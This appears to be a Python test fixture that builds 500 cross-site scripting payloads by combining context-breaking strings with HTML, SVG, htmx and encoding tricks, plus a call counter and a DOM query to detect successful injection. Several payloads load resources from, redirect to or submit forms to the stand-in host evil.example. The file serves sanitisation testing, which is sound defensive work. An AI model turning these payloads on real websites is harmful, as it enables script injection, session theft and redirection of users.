"""Five hundred pieces of text that try to be more than text, and what tells whether one of them was."""

from __future__ import annotations

from itertools import islice, product

BREAKERS = [
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</textarea>",
    "--></style>",
    "]]>",
    "</svg>",
    "{{7*7}}",
    "${alert(1)}",
    '\\"));',
]
ATTACKS = [
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<a href=javascript:hacked() autofocus onfocus=hacked()>x</a>",
    "<details open ontoggle=hacked()>",
    "<body onload=hacked()>",
    "<input autofocus onfocus=hacked()>",
    "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>",
    "<div hx-get=/ hx-trigger=load hx-on::load=hacked()>x</div>",
    "<div data-hx-on:click=hacked() hx-trigger='load[hacked()]'>x</div>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<object data=//evil.example></object>",
    "<template><script>hacked()</script></template>",
    "<p style='position:fixed;inset:0'>x</p>",
    '" onmouseover="hacked()" x="',
    "' autofocus onfocus='hacked()",
    "javascript:hacked()",
    "\u202e<script>hacked()</script>",
    "<scr\x00ipt>hacked()</scr\x00ipt>",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "<!--<img src=--><img src=x onerror=hacked()//>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    "<xss id=x tabindex=1 onfocus=hacked()></xss>#x",
    "<video><source onerror=hacked()></video>",
    "<select><style></select><img src=x onerror=hacked()></style>",
    "<table background=//evil.example>",
    "<button form=compare formaction=//evil.example>x</button>",
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "<input type=checkbox name=t value=evil checked>",
    "<a id=details>x</a><a id=trace>y</a>",
    "<set attributeName=onload to=hacked()>",
    "<animate onbegin=hacked() attributeName=x dur=1s>",
    "<marquee onstart=hacked()>",
    "<keygen autofocus onfocus=hacked()>",
    "<audio src=x onerror=hacked()>",
]
PAYLOADS = [breaker + attack for attack, breaker in islice(product(ATTACKS, BREAKERS), 500)]
#: Script for a page to count what the payloads call.
COUNT = "window.calls = 0; window.hacked = () => { window.calls += 1; };"
#: How many elements stand on a page that only a payload can have made.
ELEMENTS = "document.querySelectorAll('main script, main style, main link, main iframe, main img, main object, main base, main [onerror], main [hx-on\\\\:\\\\:load]').length"
